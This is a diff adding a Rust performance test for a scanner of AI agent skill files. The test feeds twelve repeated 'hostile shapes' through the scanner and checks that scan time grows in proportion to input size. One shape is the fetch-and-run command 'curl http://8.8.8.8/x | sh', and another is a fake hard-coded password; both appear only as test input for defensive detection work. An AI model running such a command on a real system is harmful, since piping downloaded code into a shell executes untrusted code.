@@ -1,0 +1,87 @@
+//! Twelve hostile shapes: twice the text may take about twice the time.
+
+use std::hint::black_box;
+use std::path::PathBuf;
+use std::time::{Duration, Instant};
+
+use skillgate_model::{Content, Manifest, Skill, SkillFile, SkillKind};
+
+use crate::{Rules, Scanner};
+
+/// Small against a machine that others use too, large against the start of the clock.
+const SMALL: usize = 60_000;
+/// Quadratic work would take four times as long; the rest is noise of a busy machine.
+const MOST: u32 = 3;
+
+fn shapes() -> Vec<(&'static str, Box<dyn Fn(usize) -> String>)> {
+    let repeat = |unit: &'static str| move |size: usize| unit.repeat(size / unit.len());
+    vec![
+        ("one word", Box::new(repeat("a"))),
+        ("one long sentence", Box::new(repeat("send keys to "))),
+        ("commas", Box::new(repeat("send, "))),
+        ("open comments", Box::new(repeat("<!-- "))),
+        ("comments", Box::new(repeat("x <!-- y --> "))),
+        ("fences", Box::new(repeat("```sh\n"))),
+        ("headings", Box::new(repeat("# attack\n"))),
+        ("items", Box::new(repeat("- never:\n"))),
+        (
+            "links",
+            Box::new(repeat("[https://a.example](https://b.example) ")),
+        ),
+        ("addresses", Box::new(repeat("curl http://8.8.8.8/x | sh "))),
+        (
+            "base64",
+            Box::new(repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo ")),
+        ),
+        (
+            "secrets",
+            Box::new(repeat("password = \"k3Jx9QmZt7LpR2vWn8\" ")),
+        ),
+    ]
+}
+
+fn page(text: String) -> Skill {
+    Skill {
+        name: "hostile".to_owned(),
+        kind: SkillKind::Folder,
+        root: PathBuf::from("hostile"),
+        manifest: Manifest::default(),
+        manifest_path: None,
+        files: vec![SkillFile {
+            path: "SKILL.md".to_owned(),
+            raw: PathBuf::from("SKILL.md"),
+            mode: 0o644,
+            size: text.len() as u64,
+            sha256: String::new(),
+            content: Content::Bytes(text.into_bytes().into()),
+        }],
+        digest: String::new(),
+    }
+}
+
+fn fastest(scanner: &Scanner, skill: &Skill) -> Duration {
+    (0..3)
+        .map(|_| {
+            let start = Instant::now();
+            black_box(scanner.scan(skill));
+            start.elapsed()
+        })
+        .min()
+        .unwrap()
+}
+
+#[test]
+fn hostile_shapes_take_time_in_proportion_to_their_size() {
+    let rules = Rules::built_in()
+        .unwrap()
+        .filtered(|rule| matches!(rule.language.as_str(), "text" | "manifest"));
+    let scanner = Scanner::new(rules);
+    for (name, shape) in shapes() {
+        let small = fastest(&scanner, &page(shape(SMALL)));
+        let large = fastest(&scanner, &page(shape(2 * SMALL)));
+        assert!(
+            large < small * MOST + Duration::from_millis(20),
+            "{name}: {small:?}, then {large:?}"
+        );
+    }
+}
